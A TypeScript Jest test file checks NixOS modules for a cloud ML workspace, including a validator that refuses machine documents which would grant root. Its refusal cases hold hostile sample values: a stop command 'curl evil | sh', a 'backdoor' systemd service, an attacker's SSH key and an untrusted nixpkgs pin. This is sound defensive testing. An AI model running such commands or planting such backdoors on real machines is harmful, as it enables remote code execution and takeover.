import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import {
  NIX_DIR,
  declaredOptionPaths,
  isDeclaredOptionPath,
  listNixFiles,
  nixEvalError,
  nixEvalExpr,
  nixInstantiate,
  optionDeclarations,
  requireNixInstantiate,
} from './nix-eval';

// Each check spawns nix-instantiate; the first run also warms up the evaluator.
jest.setTimeout(60_000);

const NIXPKGS_REV = '8fd9daa3db09ced9700431c5b7ad0e8ba199b575';
const NIXPKGS_NAR_HASH = 'sha256-Ti+ZBvW6yrWWAg2szExVTwCd4qOJ3KlVr1tFHfyfi8Q=';

const MACHINE_CONFIGURATION = path.join(NIX_DIR, 'lib', 'machine-configuration.nix');
const PINNED_NIXPKGS = path.join(NIX_DIR, 'lib', 'pinned-nixpkgs.nix');
const MODULE_CONFIG = path.join(NIX_DIR, 'tests', 'module-config.nix');
const IDLE_STOP_MODULE = path.join(NIX_DIR, 'modules', 'idle-stop.nix');
const BOOTSTRAP_MODULE = path.join(NIX_DIR, 'modules', 'bootstrap.nix');
const WORKSPACE_MODULE = path.join(NIX_DIR, 'modules', 'workspace.nix');

const EXPECTED_WORKSPACE_PATHS = [
  'mlWorkspace.workspace.enable',
  'mlWorkspace.workspace.domain',
  'mlWorkspace.workspace.url',
  'mlWorkspace.workspace.user',
  'mlWorkspace.workspace.ide.package',
  'mlWorkspace.workspace.ide.allowInstanceMetadata',
  'mlWorkspace.workspace.ide.connectionTokenFile',
  'mlWorkspace.workspace.home.device',
  'mlWorkspace.workspace.home.fsType',
  'mlWorkspace.workspace.home.autoFormat',
  'mlWorkspace.workspace.tls.acme.enable',
  'mlWorkspace.workspace.tls.acme.email',
  'mlWorkspace.workspace.tls.certificateFile',
  'mlWorkspace.workspace.tls.keyFile',
  'mlWorkspace.workspace.oauth2Proxy.enable',
  'mlWorkspace.workspace.oauth2Proxy.provider',
  'mlWorkspace.workspace.oauth2Proxy.clientId',
  'mlWorkspace.workspace.oauth2Proxy.clientSecretFile',
  'mlWorkspace.workspace.oauth2Proxy.cookieSecretFile',
  'mlWorkspace.workspace.oauth2Proxy.oidcIssuerUrl',
  'mlWorkspace.workspace.oauth2Proxy.allowedEmails',
  'mlWorkspace.workspace.oauth2Proxy.allowedEmailDomains',
  'mlWorkspace.workspace.gpu.enable',
  'mlWorkspace.workspace.containers',
  'mlWorkspace.workspace.extraPackages',
  'mlWorkspace.workspace.admin.user',
  'mlWorkspace.workspace.admin.authorizedKeys',
];

const EXPECTED_SECRETS_PATHS = [
  'mlWorkspace.secrets.enable',
  'mlWorkspace.secrets.provider',
  'mlWorkspace.secrets.refreshInterval',
  'mlWorkspace.secrets.directory',
  'mlWorkspace.secrets.secrets',
  'mlWorkspace.secrets.secrets.<name>.source',
  'mlWorkspace.secrets.secrets.<name>.owner',
  'mlWorkspace.secrets.secrets.<name>.group',
  'mlWorkspace.secrets.secrets.<name>.mode',
];

/** The bootstrap's options: declared wherever idle-stop is (it reads whether the bootstrap runs). */
const EXPECTED_BOOTSTRAP_PATHS = [
  'mlWorkspace.bootstrap.cloud',
  'mlWorkspace.bootstrap.enable',
  'mlWorkspace.bootstrap.metadataKey',
  'mlWorkspace.bootstrap.trustedNixpkgsRevisions',
];

const EXPECTED_IDLE_STOP_PATHS = [
  'mlWorkspace.idleStop.enable',
  'mlWorkspace.idleStop.cloud',
  'mlWorkspace.idleStop.idleMinutes',
  'mlWorkspace.idleStop.gpuUtilizationPercent',
  'mlWorkspace.idleStop.cpuLoadPerCore',
  'mlWorkspace.idleStop.maxRuntimeHours',
  'mlWorkspace.idleStop.activity',
  'mlWorkspace.idleStop.activity.workspace',
  'mlWorkspace.idleStop.activity.owner',
  'mlWorkspace.idleStop.stopCommand',
];

/** Writes `content` as JSON to a fresh temporary file and returns its path. */
function writeTempJson(content: unknown): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ml-workspace-nix-'));
  const file = path.join(dir, 'machine.json');
  fs.writeFileSync(file, JSON.stringify(content, null, 2));
  return file;
}

/** Evaluates machine-configuration.nix for a document on disk, with a stub modules directory. */
const MACHINE_CONFIGURATION_EXPR = `{ file, machineJson, modulesPath, cloud ? null }:
  let module = import file { inherit machineJson modulesPath cloud; };
  in { inherit (module) imports config; }`;

function machineConfigurationArgs(machineJson: string): string[] {
  return [
    '--argstr', 'file', MACHINE_CONFIGURATION,
    '--argstr', 'machineJson', machineJson,
    '--argstr', 'modulesPath', '/stub/modules',
  ];
}

/** Evaluates pinned-nixpkgs.nix with fetchTarball replaced by the identity, so nothing is downloaded. */
const PINNED_NIXPKGS_EXPR = `{ file, document }:
  scopedImport { builtins = builtins // { fetchTarball = args: args; }; } file
    (builtins.fromJSON document)`;

function pinnedNixpkgsArgs(document: string): string[] {
  return ['--argstr', 'file', PINNED_NIXPKGS, '--argstr', 'document', document];
}

function pinDocument(nixpkgs: Record<string, unknown>): string {
  return JSON.stringify({ schemaVersion: 1, nixpkgs, config: {} });
}

/**
 * Evaluates the config idle-stop.nix defines, with the stub lib and stand-in
 * packages (nix/tests/module-config.nix): `idleStop` holds the user's
 * `mlWorkspace.idleStop` values, `config` the other options the module reads.
 */
const IDLE_STOP_EXPR = `{ helper, module, settings }:
  let
    s = builtins.fromJSON settings;
    m = import helper {
      inherit module;
      values.mlWorkspace.idleStop = s.idleStop;
      config = s.config or { };
    };
    timer = [ "systemd" "timers" "ml-workspace-idle-stop" ];
    service = [ "systemd" "services" "ml-workspace-idle-stop" ];
  in
  if !(m.defines timer) then { defined = false; } else {
    defined = true;
    # Every option's merged value, each checked against its type.
    options = m.config.mlWorkspace.idleStop;
    stopCommand = m.value [ "mlWorkspace" "idleStop" "stopCommand" ];
    timerWantedBy = m.value (timer ++ [ "wantedBy" ]);
    timerConfig = m.value (timer ++ [ "timerConfig" ]);
    serviceConfig = m.value (service ++ [ "serviceConfig" ]);
    script = m.value (service ++ [ "script" ]);
    inherit (m) failedAssertions warnings;
  }`;

interface IdleStopConfig {
  readonly defined: boolean;
  readonly options: Record<string, unknown>;
  readonly stopCommand: string;
  readonly timerWantedBy: string[];
  readonly timerConfig: Record<string, string>;
  readonly serviceConfig: Record<string, string>;
  readonly script: string;
  readonly failedAssertions: string[];
  readonly warnings: string[];
}

function idleStopArgs(idleStop: Record<string, unknown>, config: Record<string, unknown> = {}): string[] {
  return [
    '--argstr', 'helper', MODULE_CONFIG,
    '--argstr', 'module', IDLE_STOP_MODULE,
    '--argstr', 'settings', JSON.stringify({ idleStop, config }),
  ];
}

function idleStopConfig(idleStop: Record<string, unknown>, config: Record<string, unknown> = {}): IdleStopConfig {
  return nixEvalExpr<IdleStopConfig>(IDLE_STOP_EXPR, idleStopArgs(idleStop, config));
}

describe('nix-instantiate', () => {
  test('is installed (CI installs nix-bin; missing, the Nix checks fail rather than skip)', () => {
    expect(() => requireNixInstantiate()).not.toThrow();
    expect(execFileSync('nix-instantiate', ['--version'], { encoding: 'utf8' })).toMatch(/^nix-instantiate \(Nix\) \d+\.\d+/);
  });
});

describe('every .nix file parses', () => {
  const files = listNixFiles();

  test('the flake, its modules, libraries and tests are all found', () => {
    expect(files).toEqual(
      expect.arrayContaining([
        'nix/flake.nix',
        'nix/modules/workspace.nix',
        'nix/modules/secrets.nix',
        'nix/modules/idle-stop.nix',
        'nix/modules/bootstrap.nix',
        'nix/lib/machine-configuration.nix',
        'nix/lib/pinned-nixpkgs.nix',
        'nix/tests/workspace.nix',
        'nix/tests/idle-stop.nix',
        'nix/tests/option-paths.nix',
        'nix/tests/lib-stub.nix',
        'nix/tests/module-config.nix',
      ]),
    );
  });

  it.each(files)('%s', (file) => {
    expect(() => nixInstantiate(['--parse', file])).not.toThrow();
  });
});

describe('declared NixOS options (nix/tests/option-paths.nix)', () => {
  test('are exactly the workspace, secrets, idle-stop and bootstrap options, each declared once', () => {
    const expected = [...EXPECTED_WORKSPACE_PATHS, ...EXPECTED_SECRETS_PATHS, ...EXPECTED_IDLE_STOP_PATHS, ...EXPECTED_BOOTSTRAP_PATHS].sort();
    expect(optionDeclarations().paths).toEqual(expected);
    expect(declaredOptionPaths()).toEqual(expected);
  });

  test('are sorted and free of duplicates', () => {
    const paths = declaredOptionPaths();
    expect([...paths].sort()).toEqual(paths);
    expect(new Set(paths).size).toBe(paths.length);
  });

  test('all have a type and a description', () => {
    expect(optionDeclarations().undocumented).toEqual([]);
  });

  test('have the documented defaults', () => {
    const { defaults } = optionDeclarations();
    expect(defaults).toMatchObject({
      'mlWorkspace.workspace.enable': false,
      'mlWorkspace.workspace.user': 'workspace',
      'mlWorkspace.workspace.url': null,
      'mlWorkspace.workspace.ide.allowInstanceMetadata': false,
      'mlWorkspace.workspace.ide.connectionTokenFile': null,
      'mlWorkspace.workspace.home.device': null,
      'mlWorkspace.workspace.home.fsType': 'ext4',
      'mlWorkspace.workspace.home.autoFormat': true,
      'mlWorkspace.workspace.tls.acme.enable': true,
      'mlWorkspace.workspace.tls.acme.email': null,
      'mlWorkspace.workspace.oauth2Proxy.enable': false,
      'mlWorkspace.workspace.oauth2Proxy.provider': 'google',
      'mlWorkspace.workspace.oauth2Proxy.allowedEmails': [],
      'mlWorkspace.workspace.oauth2Proxy.allowedEmailDomains': [],
      'mlWorkspace.workspace.gpu.enable': false,
      'mlWorkspace.workspace.containers': 'podman',
      'mlWorkspace.workspace.extraPackages': [],
      'mlWorkspace.secrets.enable': false,
      'mlWorkspace.secrets.directory': '/run/ml-workspace/secrets',
      'mlWorkspace.secrets.refreshInterval': '1h',
      'mlWorkspace.secrets.secrets': {},
      'mlWorkspace.secrets.secrets.<name>.owner': 'root',
      'mlWorkspace.secrets.secrets.<name>.group': 'root',
      'mlWorkspace.secrets.secrets.<name>.mode': '0400',
      'mlWorkspace.idleStop.enable': false,
      'mlWorkspace.idleStop.idleMinutes': 60,
      'mlWorkspace.idleStop.gpuUtilizationPercent': 5,
      'mlWorkspace.idleStop.cpuLoadPerCore': 0.3,
      'mlWorkspace.idleStop.maxRuntimeHours': null,
      'mlWorkspace.idleStop.activity': null,
    });
  });

  test('leave out defaults that are packages and options that have none', () => {
    const { defaults } = optionDeclarations();
    expect(defaults).not.toHaveProperty(['mlWorkspace.workspace.ide.package']);
    expect(defaults).not.toHaveProperty(['mlWorkspace.workspace.domain']);
    expect(defaults).not.toHaveProperty(['mlWorkspace.secrets.provider']);
    expect(defaults).not.toHaveProperty(['mlWorkspace.secrets.secrets.<name>.source']);
    expect(defaults).not.toHaveProperty(['mlWorkspace.idleStop.cloud']);
    // Depends on the cloud; defined in the module's config, not as a plain default.
    expect(defaults).not.toHaveProperty(['mlWorkspace.idleStop.stopCommand']);
  });

  test('match concrete attribute names against <name>', () => {
    expect(isDeclaredOptionPath('mlWorkspace.secrets.secrets.connection-token.source')).toBe(true);
    expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.allowInstanceMetadata')).toBe(true);
    // Gone: the IDE listens on a Unix socket only nginx and the workspace user can open.
    expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.port')).toBe(false);
    expect(isDeclaredOptionPath('mlWorkspace.workspace.ide.host')).toBe(false);
    expect(isDeclaredOptionPath('mlWorkspace.secrets.secrets.connection-token.path')).toBe(false);
    expect(isDeclaredOptionPath('mlWorkspace.idleStop.idleMinutes')).toBe(true);
    expect(isDeclaredOptionPath('mlWorkspace.idleStop.idleSeconds')).toBe(false);
  });
});

describe('nix/modules/idle-stop.nix (config evaluated with the stub lib)', () => {
  it.each(['gcp', 'aws'])('powers the VM off by default on %s', (cloud) => {
    expect(idleStopConfig({ enable: true, cloud }).stopCommand).toBe('systemctl poweroff');
  });

  test('deallocates instead of powering off by default on Azure, where a stopped VM is still billed', () => {
    const { stopCommand, warnings } = idleStopConfig({ enable: true, cloud: 'azure' });

    expect(stopCommand).not.toBe('systemctl poweroff');
    expect(stopCommand).toMatch(/-ml-workspace-azure-deallocate\/bin\/ml-workspace-azure-deallocate$/);
    expect(warnings).toEqual([]);
  });

  test('prefers a stop command the user sets over the cloud default', () => {
    expect(idleStopConfig({ enable: true, cloud: 'azure', stopCommand: 'touch /tmp/stopped' }).stopCommand).toBe('touch /tmp/stopped');
    expect(idleStopConfig({ enable: true, cloud: 'gcp', stopCommand: 'touch /tmp/stopped' }).stopCommand).toBe('touch /tmp/stopped');
  });

  test('warns when an Azure VM would only be powered off', () => {
    const { warnings } = idleStopConfig({ enable: true, cloud: 'azure', stopCommand: 'systemctl poweroff' });

    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^mlWorkspace\.idleStop\.stopCommand .*allocated and billed/);
  });

  test('checks every minute from five minutes after boot, with a oneshot service', () => {
    const { timerWantedBy, timerConfig, serviceConfig, script } = idleStopConfig({ enable: true, cloud: 'gcp' });

    expect(timerWantedBy).toEqual(['timers.target']);
    expect(timerConfig).toMatchObject({ OnBootSec: '5min', OnUnitActiveSec: '1min' });
    expect(serviceConfig).toMatchObject({
      Type: 'oneshot',
      RuntimeDirectory: 'ml-workspace/idle-stop',
      RuntimeDirectoryPreserve: 'yes',
    });
    // The check is the unit's script (run below, in the idle-stop behaviour tests).
    expect(script).toMatch(/^set -euo pipefail\nstate_dir=\$\{RUNTIME_DIRECTORY:-\/run\/ml-workspace\/idle-stop\}\n/);
    expect(script).toContain("stop_command='systemctl poweroff'");
  });

  test('takes idleMinutes from 5 to 1440, the bound GpuWorkspace.idleStopMinutes has', () => {
    expect(idleStopConfig({ enable: true, cloud: 'gcp', idleMinutes: 5 }).options.idleMinutes).toBe(5);
    expect(idleStopConfig({ enable: true, cloud: 'gcp', idleMinutes: 1440 }).options.idleMinutes).toBe(1440);
    for (const minutes of [4, 1441]) {
      expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', idleMinutes: minutes }))).toMatch(
        new RegExp(`The option \`mlWorkspace\\.idleStop\\.idleMinutes' is not of type \`integer between 5 and 1440 \\(both inclusive\\)'\\. Definition values:\\n\\s*- In \`values': ${minutes}`),
      );
    }
  });

  test('defines nothing when disabled', () => {
    expect(idleStopConfig({ cloud: 'gcp' }).defined).toBe(false);
    expect(idleStopConfig({}).defined).toBe(false);
  });

  test('rejects values outside the option types', () => {
    expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', cpuLoadPerCore: 0 }))).toMatch(
      /The option `mlWorkspace\.idleStop\.cpuLoadPerCore' is not of type `integer or floating point number between 0\.01 and 64 \(both inclusive\)'/,
    );
    expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', gpuUtilizationPercent: 101 }))).toMatch(
      /The option `mlWorkspace\.idleStop\.gpuUtilizationPercent' is not of type `integer between 0 and 100 \(both inclusive\)'/,
    );
    expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'gcp', maxRuntimeHours: 0 }))).toMatch(
      /The option `mlWorkspace\.idleStop\.maxRuntimeHours' is not of type `nullOr'/,
    );
    expect(nixEvalError(IDLE_STOP_EXPR, idleStopArgs({ enable: true, cloud: 'openstack' }))).toMatch(
      /The option `mlWorkspace\.idleStop\.cloud' is not of type `one of "gcp", "aws", "azure"'/,
    );
  });

  test('fills in the defaults of the options the user leaves out', () => {
    expect(idleStopConfig({ enable: true, cloud: 'aws', idleMinutes: 30 }).options).toEqual({
      enable: true,
      cloud: 'aws',
      idleMinutes: 30,
      gpuUtilizationPercent: 5,
      cpuLoadPerCore: 0.3,
      maxRuntimeHours: null,
      activity: null,
      stopCommand: 'systemctl poweroff',
    });
  });

  test('accepts a whole number for cpuLoadPerCore, as JSON renders 1.0', () => {
    expect(idleStopConfig({ enable: true, cloud: 'gcp', cpuLoadPerCore: 1 }).options.cpuLoadPerCore).toBe(1);
  });
});

describe('nix/lib/machine-configuration.nix', () => {
  const config = {
    networking: { hostName: 'alice' },
    mlWorkspace: {
      workspace: {
        enable: true,
        domain: 'alice.ml.example.com',
        ide: { connectionTokenFile: '/run/ml-workspace/secrets/connection-token' },
        tls: { acme: { email: 'platform@example.com' } },
        home: { device: '/dev/disk/by-id/google-home' },
      },
      secrets: {
        enable: true,
        provider: 'gcp',
        secrets: {
          'connection-token': { source: 'projects/p/secrets/alice-token', owner: 'workspace' },
        },
      },
    },
  };

  test('turns the document config into a module on top of workspace.nix, secrets.nix and idle-stop.nix', () => {
    const machineJson = writeTempJson({
      schemaVersion: 1,
      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH },
      config,
    });

    const module = nixEvalExpr<{ imports: string[]; config: unknown }>(MACHINE_CONFIGURATION_EXPR, machineConfigurationArgs(machineJson));

    expect(module.config).toEqual(config);
    expect(module.imports).toEqual([
      '/stub/modules/workspace.nix',
      '/stub/modules/secrets.nix',
      '/stub/modules/idle-stop.nix',
    ]);
  });

  test('refuses schemaVersion 2, naming the field', () => {
    const machineJson = writeTempJson({ schemaVersion: 2, nixpkgs: {}, config });

    const error = nixEvalError(MACHINE_CONFIGURATION_EXPR, machineConfigurationArgs(machineJson));

    expect(error).toMatch(/schemaVersion 2 is not supported/);
    expect(error).toContain(machineJson);
  });

  test('refuses a document without schemaVersion', () => {
    const machineJson = writeTempJson({ config });

    const error = nixEvalError(MACHINE_CONFIGURATION_EXPR, machineConfigurationArgs(machineJson));

    expect(error).toMatch(/schemaVersion null is not supported/);
  });

  // Whoever can write instance metadata writes the document; it must not become root's
  // configuration beyond the settings the constructs render.
  const withConfig = (extra: Record<string, unknown>) => ({
    ...config,
    ...extra,
    mlWorkspace: { ...config.mlWorkspace, ...((extra.mlWorkspace as object) ?? {}) },
  });
  it.each<[string, Record<string, unknown>, string]>([
    [
      'a stop command (run as root by the idle check)',
      withConfig({ mlWorkspace: { idleStop: { enable: true, cloud: 'gcp', stopCommand: 'curl evil | sh' } } }),
      'config.mlWorkspace.idleStop.stopCommand is not a setting a machine document may hold',
    ],
    [
      'any other NixOS option',
      withConfig({ systemd: { services: { backdoor: { script: 'id' } } } }),
      'config.systemd is not a setting a machine document may hold',
    ],
    [
      'a package',
      withConfig({ mlWorkspace: { workspace: { ...config.mlWorkspace.workspace, extraPackages: ['/nix/store/x'] } } }),
      'config.mlWorkspace.workspace.extraPackages is not a setting a machine document may hold',
    ],
    [
      'an mkOverride written as JSON',
      withConfig({ networking: { hostName: { _type: 'override', priority: 10, content: 'x' } } }),
      'config.networking.hostName must be a JSON string, number, boolean, null or list of those',
    ],
    [
      'an mkIf around a set',
      withConfig({ mlWorkspace: { _type: 'if', condition: true, content: {} } }),
      'config.mlWorkspace._type is not a setting a machine document may hold',
    ],
    [
      'an SSH login on a cloud other than Azure',
      withConfig({ mlWorkspace: { workspace: { ...config.mlWorkspace.workspace, admin: { user: 'eve', authorizedKeys: ['ssh-ed25519 AAAA eve'] } } } }),
      'config.mlWorkspace.workspace.admin is not a setting a machine document may hold',
    ],
    [
      'a secret with a mode of its own',
      withConfig({ mlWorkspace: { secrets: { enable: true, provider: 'gcp', secrets: { 'connection-token': { source: 'projects/p/secrets/t', mode: '0444' } } } } }),
      'config.mlWorkspace.secrets.secrets.connection-token.mode is not a setting a machine document may hold',
    ],
  ])('refuses %s, naming the setting', (_what, badConfig, message) => {
    const machineJson = writeTempJson({
      schemaVersion: 1,
      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH },
      config: badConfig,
    });

    const error = nixEvalError(MACHINE_CONFIGURATION_EXPR, [...machineConfigurationArgs(machineJson), '--argstr', 'cloud', 'gcp']);

    expect(error).toContain(`machine document ${machineJson}: refusing the document: ${message}`);
    expect(error).toContain('so that writing instance metadata does not give root on the machine');
  });

  test('accepts the break-glass admin on Azure, where Bastion needs it', () => {
    const azure = withConfig({
      mlWorkspace: { workspace: { ...config.mlWorkspace.workspace, admin: { user: 'azureuser', authorizedKeys: ['ssh-ed25519 AAAA admin'] } } },
    });
    const machineJson = writeTempJson({
      schemaVersion: 1,
      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH },
      config: azure,
    });

    const module = nixEvalExpr<{ config: any }>(MACHINE_CONFIGURATION_EXPR, [...machineConfigurationArgs(machineJson), '--argstr', 'cloud', 'azure']);

    expect(module.config.mlWorkspace.workspace.admin).toEqual({ user: 'azureuser', authorizedKeys: ['ssh-ed25519 AAAA admin'] });
  });
});

describe('nix/lib/pinned-nixpkgs.nix', () => {
  const pin = { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH };

  test('fetches the pinned commit, verified by its NAR hash', () => {
    const fetched = nixEvalExpr<Record<string, string>>(PINNED_NIXPKGS_EXPR, pinnedNixpkgsArgs(pinDocument(pin)));

    expect(fetched).toEqual({
      name: 'nixpkgs-8fd9daa3db09',
      url: `https://github.com/NixOS/nixpkgs/archive/${NIXPKGS_REV}.tar.gz`,
      sha256: NIXPKGS_NAR_HASH,
    });
  });

  test('refuses a branch name instead of a commit', () => {
    const error = nixEvalError(PINNED_NIXPKGS_EXPR, pinnedNixpkgsArgs(pinDocument({ ...pin, rev: 'nixos-25.11' })));

    expect(error).toMatch(/rev "nixos-25\.11" is not a 40-character hexadecimal commit id/);
  });

  test('refuses a NAR hash without the sha256- prefix', () => {
    const error = nixEvalError(PINNED_NIXPKGS_EXPR, pinnedNixpkgsArgs(pinDocument({ ...pin, narHash: 'Ti+ZBvW6yrWWAg2szExVTwCd4qOJ3KlVr1tFHfyfi8Q=' })));

    expect(error).toMatch(/narHash "Ti\+ZBvW6yrWWAg2szExVTwCd4qOJ3KlVr1tFHfyfi8Q=" is not an SRI sha256 hash/);
  });

  test('refuses a document without a nixpkgs pin', () => {
    const error = nixEvalError(PINNED_NIXPKGS_EXPR, pinnedNixpkgsArgs(JSON.stringify({ schemaVersion: 1, config: {} })));

    expect(error).toMatch(/has no "nixpkgs" object/);
  });
});

describe('nix/flake.nix and nix/flake.lock', () => {
  test('pin nixpkgs by commit and NAR hash, never by branch', () => {
    const flake = fs.readFileSync(path.join(NIX_DIR, 'flake.nix'), 'utf8');
    const lock = JSON.parse(fs.readFileSync(path.join(NIX_DIR, 'flake.lock'), 'utf8'));

    expect(flake).toContain(`inputs.nixpkgs.url = "github:NixOS/nixpkgs/${NIXPKGS_REV}";`);
    expect(lock.version).toBe(7);
    expect(lock.nodes.root.inputs).toEqual({ nixpkgs: 'nixpkgs' });
    expect(lock.nodes.nixpkgs.locked).toEqual({
      lastModified: 1778430510,
      narHash: NIXPKGS_NAR_HASH,
      owner: 'NixOS',
      repo: 'nixpkgs',
      rev: NIXPKGS_REV,
      type: 'github',
    });
    // `original` must restate the input URL exactly, or Nix re-locks (and fetches).
    expect(lock.nodes.nixpkgs.original).toEqual({
      owner: 'NixOS',
      repo: 'nixpkgs',
      rev: NIXPKGS_REV,
      type: 'github',
    });
  });
});

/**
 * What bootstrap.nix sets per cloud, evaluated with the stub lib (nix/tests/module-config.nix).
 * `options` stands for the image profile's declarations the module tests for.
 */
const BOOTSTRAP_EXPR = `{ helper, module, cloud, profile }:
  let
    m = import helper {
      inherit module;
      values.mlWorkspace.bootstrap = { enable = true; inherit cloud; };
      imports = if profile == "" then [ ] else [ (/. + profile) ];
    };
    at = path: if m.defines path then m.value path else null;
  in {
    ssmAgent = at [ "services" "amazon-ssm-agent" "enable" ];
    gceEfi = at [ "virtualisation" "googleComputeImage" "efi" ];
    azureGeneration = at [ "virtualisation" "azureImage" "vmGeneration" ];
    amazonInit = at [ "virtualisation" "amazon-init" "enable" ];
    service = m.defines [ "systemd" "services" "ml-workspace-bootstrap" ];
  }`;

describe('mlWorkspace.bootstrap per cloud (nix/modules/bootstrap.nix)', () => {
  // The models of the image profiles the bootstrap's configuration imports on each cloud.
  const PROFILES: Record<string, string> = {
    gcp: 'google-compute-image.nix',
    aws: 'amazon-image.nix',
    azure: 'azure-image.nix',
  };
  const bootstrap = (cloud: string, withProfile = true) =>
    nixEvalExpr<Record<string, unknown>>(BOOTSTRAP_EXPR, [
      '--argstr', 'helper', MODULE_CONFIG,
      '--argstr', 'module', BOOTSTRAP_MODULE,
      '--argstr', 'cloud', cloud,
      '--argstr', 'profile', withProfile ? path.join(NIX_DIR, 'tests', 'nixpkgs', 'virtualisation', PROFILES[cloud]) : '',
    ]);

  test.each([
    // GCP: UEFI kept across rebuilds (Shielded VM); AWS: the Session Manager agent, since no
    // SSH port is open; Azure: Generation 2 kept across rebuilds. amazon-init (only in the
    // Amazon profile) never runs our JSON document as a configuration.
    ['gcp', { ssmAgent: null, gceEfi: true, azureGeneration: null, amazonInit: null, service: true }],
    ['aws', { ssmAgent: true, gceEfi: null, azureGeneration: null, amazonInit: false, service: true }],
    ['azure', { ssmAgent: null, gceEfi: null, azureGeneration: 'v2', amazonInit: null, service: true }],
  ])('on %s', (cloud, expected) => {
    expect(bootstrap(cloud)).toEqual(expected);
  });

  test('outside an image profile it sets no profile option (they would not exist)', () => {
    expect(bootstrap('azure', false)).toEqual({ ssmAgent: null, gceEfi: null, azureGeneration: null, amazonInit: null, service: true });
  });
});

/** The break-glass administrator workspace.nix declares, evaluated with the stub lib. */
const ADMIN_EXPR = `{ helper, module, admin }:
  let
    m = import helper {
      inherit module;
      values.mlWorkspace.workspace = {
        enable = true;
        domain = "alice.example.com";
        ide.connectionTokenFile = "/run/ml-workspace/secrets/connection-token";
        tls.acme = { enable = true; email = "ops@example.com"; };
        admin = builtins.fromJSON admin;
      };
    };
    defined = m.defines [ "users" "users" "azureuser" ];
  in {
    inherit defined;
    account = if defined then m.value [ "users" "users" "azureuser" ] else null;
    sudo = if defined then m.value [ "security" "sudo" "extraRules" ] else null;
    inherit (m) failedAssertions;
  }`;

describe('mlWorkspace.workspace.admin (nix/modules/workspace.nix)', () => {
  const admin = (settings: object) =>
    nixEvalExpr<any>(ADMIN_EXPR, ['--argstr', 'helper', MODULE_CONFIG, '--argstr', 'module', WORKSPACE_MODULE, '--argstr', 'admin', JSON.stringify(settings)]);

  test('declares a key-only wheel account with passwordless sudo', () => {
    const result = admin({ user: 'azureuser', authorizedKeys: ['ssh-ed25519 AAAAC3Nza admin'] });
    expect(result.failedAssertions).toEqual([]);
    expect(result.account).toMatchObject({
      isNormalUser: true,
      extraGroups: ['wheel'],
      hashedPassword: '!',
      openssh: { authorizedKeys: { keys: ['ssh-ed25519 AAAAC3Nza admin'] } },
    });
    expect(result.sudo).toEqual([{ users: ['azureuser'], commands: [{ command: 'ALL', options: ['NOPASSWD'] }] }]);
  });

  test('is refused without a key, since the account has no password', () => {
    expect(admin({ user: 'azureuser' }).failedAssertions).toEqual([
      'mlWorkspace.workspace.admin.authorizedKeys must list at least one SSH public key for mlWorkspace.workspace.admin.user "azureuser"; the account has no password.',
      // A wheel account without a key does not pass NixOS's lock-out check either.
      expect.stringMatching(/^Neither the root account nor any wheel user has a password or SSH authorized key\./),
    ]);
  });

  test('declares nothing by default, and then NixOS\'s lock-out check needs another way in', () => {
    expect(admin({})).toEqual({
      defined: false,
      account: null,
      sudo: null,
      // Met on a real machine by OS Login (GCP) or users.allowNoPasswordLogin (AWS, the bootstrap).
      failedAssertions: [expect.stringMatching(/^Neither the root account nor any wheel user has a password or SSH authorized key\./)],
    });
  });
});

/** The bootstrap's check before it applies a document (nix/lib/check-document.nix). */
describe('nix/lib/check-document.nix', () => {
  const CHECK_EXPR = `{ file, machineJson, trusted }:
    import file { machineJson = /. + machineJson; cloud = "gcp"; trustedNixpkgsRevisions = builtins.fromJSON trusted; }`;
  const document = (rev: string) =>
    writeTempJson({
      schemaVersion: 1,
      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev, narHash: NIXPKGS_NAR_HASH },
      config: { networking: { hostName: 'alice' } },
    });
  const check = (machineJson: string, trusted: string[]) => [
    '--argstr', 'file', path.join(NIX_DIR, 'lib', 'check-document.nix'),
    '--argstr', 'machineJson', machineJson,
    '--argstr', 'trusted', JSON.stringify(trusted),
  ];

  test('accepts a document that pins a revision the image trusts', () => {
    expect(nixEvalExpr<boolean>(CHECK_EXPR, check(document(NIXPKGS_REV), [NIXPKGS_REV]))).toBe(true);
  });

  // The pin decides what nixos-rebuild runs as root: a document writer must not choose a fork.
  test('refuses any other revision, naming the trusted ones', () => {
    const other = 'deadbeef'.repeat(5);
    const machineJson = document(other);

    expect(nixEvalError(CHECK_EXPR, check(machineJson, [NIXPKGS_REV]))).toContain(
      `machine document ${machineJson}: refusing the document: nixpkgs revision "${other}" is not one this image trusts (${NIXPKGS_REV}).`,
    );
  });

  test('refuses every document when the image trusts no revision', () => {
    expect(nixEvalError(CHECK_EXPR, check(document(NIXPKGS_REV), []))).toContain('is not one this image trusts (none)');
  });

  test('refuses a trusted pin with settings a document may not hold', () => {
    const machineJson = writeTempJson({
      schemaVersion: 1,
      nixpkgs: { owner: 'NixOS', repo: 'nixpkgs', rev: NIXPKGS_REV, narHash: NIXPKGS_NAR_HASH },
      config: { mlWorkspace: { workspace: { user: 'disk' } } },
    });

    expect(nixEvalError(CHECK_EXPR, check(machineJson, [NIXPKGS_REV]))).toContain(
      'config.mlWorkspace.workspace.user is not a setting a machine document may hold',
    );
  });
});
